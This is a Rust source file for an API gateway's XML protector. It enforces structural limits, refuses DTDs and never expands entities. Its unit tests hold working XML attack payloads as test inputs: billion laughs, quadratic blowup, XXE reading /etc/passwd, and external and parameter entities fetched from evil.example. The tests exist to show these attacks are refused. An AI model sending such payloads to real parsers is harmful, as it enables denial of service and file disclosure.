//! The XML protector, on quick-xml's reader over the buffered body (bounded by `max_size`,
//! which the gateway enforces while buffering): depth, element count, attributes per element
//! and their length, children per element, text length, total size, and well-formedness.
//!
//! No entity is ever expanded or fetched, in any mode: quick-xml reports `&name;` as a
//! reference and leaves it alone, and this protector refuses every reference that is not a
//! character reference or one of XML's five predefined entities. A `<!DOCTYPE>` is refused by
//! default (`dtd: deny`); with `dtd: allow` it is accepted, but since its entities are never
//! used, billion laughs, quadratic blowup, external entities (XXE) and parameter entities all
//! fail safe. SOAP envelopes are ordinary XML.

use quick_xml::events::Event;
use quick_xml::Reader;

/// What to do with a `<!DOCTYPE>`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dtd {
    Deny,
    Allow,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct XmlLimits {
    pub max_depth: u32,
    pub max_elements: u32,
    pub max_attributes: u32,
    pub max_attribute_length: u64,
    pub max_children: u32,
    pub max_text_length: u64,
    pub max_size: u64,
    pub dtd: Dtd,
}

impl Default for XmlLimits {
    fn default() -> Self {
        XmlLimits {
            max_depth: 32,
            max_elements: 10_000,
            max_attributes: 64,
            max_attribute_length: 1024,
            max_children: 1000,
            max_text_length: 64 * 1024,
            max_size: 1024 * 1024,
            dtd: Dtd::Deny,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum XmlViolation {
    Depth,
    Elements,
    Attributes,
    AttributeLength,
    Children,
    TextLength,
    Size,
    Dtd,
    /// An entity reference other than a character reference or a predefined entity.
    Entity,
    Malformed(&'static str),
}

impl XmlViolation {
    pub const fn rule(self) -> &'static str {
        match self {
            XmlViolation::Depth => "xml.max_depth",
            XmlViolation::Elements => "xml.max_elements",
            XmlViolation::Attributes => "xml.max_attributes",
            XmlViolation::AttributeLength => "xml.max_attribute_length",
            XmlViolation::Children => "xml.max_children",
            XmlViolation::TextLength => "xml.max_text_length",
            XmlViolation::Size => "xml.max_size",
            XmlViolation::Dtd => "xml.dtd",
            XmlViolation::Entity => "xml.entity",
            XmlViolation::Malformed(_) => "xml.malformed",
        }
    }
}

const PREDEFINED: [&[u8]; 5] = [b"lt", b"gt", b"amp", b"apos", b"quot"];

/// Checks a whole body.
pub fn check_xml(body: &[u8], limits: &XmlLimits) -> Result<(), XmlViolation> {
    if body.len() as u64 > limits.max_size {
        return Err(XmlViolation::Size);
    }
    let mut reader = Reader::from_reader(body);
    let config = reader.config_mut();
    config.check_end_names = true;
    config.check_comments = true;
    // Children so far of each open element; its length is the depth.
    let mut open: Vec<u32> = Vec::new();
    let mut elements = 0u32;
    let mut root_done = false;
    let mut text = 0u64;
    loop {
        let event = reader.read_event().map_err(|_| XmlViolation::Malformed("not well-formed XML"))?;
        match event {
            Event::Start(ref e) | Event::Empty(ref e) => {
                if root_done {
                    return Err(XmlViolation::Malformed("more than one root element"));
                }
                text = 0;
                elements += 1;
                if elements > limits.max_elements {
                    return Err(XmlViolation::Elements);
                }
                if let Some(children) = open.last_mut() {
                    *children += 1;
                    if *children > limits.max_children {
                        return Err(XmlViolation::Children);
                    }
                }
                let mut attributes = 0u32;
                for a in e.attributes().with_checks(true) {
                    let a = a.map_err(|_| XmlViolation::Malformed("a malformed or repeated attribute"))?;
                    attributes += 1;
                    if attributes > limits.max_attributes {
                        return Err(XmlViolation::Attributes);
                    }
                    if a.value.len() as u64 > limits.max_attribute_length {
                        return Err(XmlViolation::AttributeLength);
                    }
                    check_references(&a.value)?;
                }
                // An empty element is as deep as one with content.
                if open.len() as u32 >= limits.max_depth {
                    return Err(XmlViolation::Depth);
                }
                if matches!(event, Event::Start(_)) {
                    open.push(0);
                } else if open.is_empty() {
                    root_done = true;
                }
            }
            Event::End(_) => {
                text = 0;
                open.pop();
                if open.is_empty() {
                    root_done = true;
                }
            }
            Event::Text(t) => {
                if open.is_empty() {
                    if !t.iter().all(u8::is_ascii_whitespace) {
                        return Err(XmlViolation::Malformed("text outside the root element"));
                    }
                    continue;
                }
                text += t.len() as u64;
                if text > limits.max_text_length {
                    return Err(XmlViolation::TextLength);
                }
            }
            Event::CData(t) => {
                if open.is_empty() {
                    return Err(XmlViolation::Malformed("text outside the root element"));
                }
                text += t.len() as u64;
                if text > limits.max_text_length {
                    return Err(XmlViolation::TextLength);
                }
            }
            Event::GeneralRef(r) => {
                if open.is_empty() {
                    return Err(XmlViolation::Malformed("text outside the root element"));
                }
                let predefined = PREDEFINED.contains(&&*r);
                if !predefined {
                    match r.resolve_char_ref() {
                        Ok(Some(_)) => {}
                        _ => return Err(XmlViolation::Entity),
                    }
                }
                text += 1;
                if text > limits.max_text_length {
                    return Err(XmlViolation::TextLength);
                }
            }
            Event::DocType(_) => {
                if limits.dtd == Dtd::Deny {
                    return Err(XmlViolation::Dtd);
                }
                if elements > 0 {
                    return Err(XmlViolation::Malformed("a DOCTYPE after the root element"));
                }
            }
            Event::Decl(_) | Event::PI(_) | Event::Comment(_) => {}
            Event::Eof => break,
        }
    }
    if !open.is_empty() {
        return Err(XmlViolation::Malformed("the body ends inside an element"));
    }
    if elements == 0 {
        return Err(XmlViolation::Malformed("no root element"));
    }
    Ok(())
}

/// Entity references in an attribute value: only character references and the predefined
/// five are allowed.
fn check_references(value: &[u8]) -> Result<(), XmlViolation> {
    let mut rest = value;
    while let Some(start) = rest.iter().position(|&b| b == b'&') {
        let after = &rest[start + 1..];
        let Some(end) = after.iter().position(|&b| b == b';') else {
            return Err(XmlViolation::Malformed("a bare & in an attribute value"));
        };
        let name = &after[..end];
        let char_ref = match name {
            [b'#', b'x', hex @ ..] => !hex.is_empty() && hex.iter().all(u8::is_ascii_hexdigit),
            [b'#', dec @ ..] => !dec.is_empty() && dec.iter().all(u8::is_ascii_digit),
            _ => false,
        };
        if !char_ref && !PREDEFINED.contains(&name) {
            return Err(XmlViolation::Entity);
        }
        rest = &after[end + 1..];
    }
    Ok(())
}

/// Whether a `Content-Type` is XML: `application/xml`, `text/xml`, or any `+xml` type (SOAP's
/// `application/soap+xml` included).
pub fn is_xml_content_type(value: &[u8]) -> bool {
    let essence = value.split(|&b| b == b';').next().unwrap_or(b"").trim_ascii();
    essence.eq_ignore_ascii_case(b"application/xml")
        || essence.eq_ignore_ascii_case(b"text/xml")
        || (essence.len() > 4 && essence[essence.len() - 4..].eq_ignore_ascii_case(b"+xml") && essence.contains(&b'/'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(body: &str) -> Result<(), XmlViolation> {
        check_xml(body.as_bytes(), &XmlLimits::default())
    }

    const SOAP: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">
  <soap:Header><auth:Token xmlns:auth="urn:example:auth">abc&amp;def</auth:Token></soap:Header>
  <soap:Body>
    <m:GetPrice xmlns:m="urn:example:prices"><m:Item note="O&apos;Brien &#233;t&#xE9;">Apples &lt; Pears</m:Item></m:GetPrice>
    <!-- a comment --><![CDATA[<not a tag>]]>
  </soap:Body>
</soap:Envelope>"#;

    #[test]
    fn ordinary_xml_and_soap_pass() {
        assert_eq!(check(SOAP), Ok(()));
        assert_eq!(check("<a/>"), Ok(()));
        assert_eq!(check("  <a x='1' y=\"2\"><b>t</b><c/></a>\n"), Ok(()));
    }

    #[test]
    fn malformed_xml_is_refused() {
        for (body, why) in [
            ("", "no root element"),
            ("<a>", "the body ends inside an element"),
            ("<a></b>", "not well-formed XML"),
            ("<a/><b/>", "more than one root element"),
            ("text<a/>", "text outside the root element"),
            ("<a x='1' x='2'/>", "a malformed or repeated attribute"),
            ("<a x='a&b'/>", "a bare & in an attribute value"),
        ] {
            assert_eq!(check(body), Err(XmlViolation::Malformed(why)), "{body:?}");
        }
    }

    #[test]
    fn entity_attacks_fail_safe_in_both_modes() {
        let billion_laughs = r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>"#;
        let quadratic = format!(r#"<!DOCTYPE q [<!ENTITY a "{}">]><q>{}</q>"#, "x".repeat(50_000), "&a;".repeat(1000));
        let xxe_file = r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
        let xxe_http = r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://evil.example/x">]><foo>&xxe;</foo>"#;
        let parameter = r#"<!DOCTYPE foo [<!ENTITY % pe SYSTEM "http://evil.example/dtd"> %pe;]><foo/>"#;
        let in_attribute = r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo a="&xxe;"/>"#;
        let allow = XmlLimits { dtd: Dtd::Allow, ..XmlLimits::default() };
        for body in [billion_laughs, quadratic.as_str(), xxe_file, xxe_http, parameter, in_attribute] {
            assert_eq!(check(body), Err(XmlViolation::Dtd), "deny: {}", &body[..40]);
            let allowed = check_xml(body.as_bytes(), &allow);
            // A parameter entity is only ever used inside the DTD, which is never read: the
            // document itself is harmless.
            if body == parameter {
                assert_eq!(allowed, Ok(()));
            } else {
                assert_eq!(allowed, Err(XmlViolation::Entity), "allow: {}", &body[..40]);
            }
        }
        // An entity used without any DTD.
        assert_eq!(check("<a>&undefined;</a>"), Err(XmlViolation::Entity));
    }

    #[test]
    fn each_limit_refuses_one_past_it() {
        let l = XmlLimits {
            max_depth: 3,
            max_elements: 5,
            max_attributes: 2,
            max_attribute_length: 4,
            max_children: 2,
            max_text_length: 5,
            max_size: 100,
            dtd: Dtd::Deny,
        };
        let c = |b: &str| check_xml(b.as_bytes(), &l);
        assert_eq!(c("<a><b><c/></b></a>"), Ok(()));
        assert_eq!(c("<a><b><c><d/></c></b></a>"), Err(XmlViolation::Depth));
        assert_eq!(c("<a><b/><b/></a>"), Ok(()));
        assert_eq!(c("<a><b/><b/><b/></a>"), Err(XmlViolation::Children));
        assert_eq!(c("<a><b><c/><c/></b><b><c/></b></a>"), Err(XmlViolation::Elements));
        assert_eq!(c("<a x='1' y='2'/>"), Ok(()));
        assert_eq!(c("<a x='1' y='2' z='3'/>"), Err(XmlViolation::Attributes));
        assert_eq!(c("<a x='abcde'/>"), Err(XmlViolation::AttributeLength));
        assert_eq!(c("<a>abcde</a>"), Ok(()));
        assert_eq!(c("<a>abc&amp;de</a>"), Err(XmlViolation::TextLength));
        assert_eq!(c(&format!("<a>{}</a>", " ".repeat(100))), Err(XmlViolation::Size));
    }

    #[test]
    fn parser_bombs_are_refused_with_the_defaults() {
        assert_eq!(check(&format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000))), Err(XmlViolation::Depth));
        let attrs: String = (0..100_000).map(|i| format!(" a{i}='1'")).collect();
        assert_eq!(
            check_xml(format!("<a{attrs}/>").as_bytes(), &XmlLimits { max_size: 4 << 20, ..XmlLimits::default() }),
            Err(XmlViolation::Attributes)
        );
        assert_eq!(check(&format!("<r>{}</r>", "<e/>".repeat(20_000))), Err(XmlViolation::Children));
    }

    #[test]
    fn xml_content_types() {
        for t in ["application/xml", "text/xml; charset=utf-8", "application/soap+xml", "image/svg+xml"] {
            assert!(is_xml_content_type(t.as_bytes()), "{t}");
        }
        for t in ["application/json", "text/plain", "+xml"] {
            assert!(!is_xml_content_type(t.as_bytes()), "{t}");
        }
    }
}
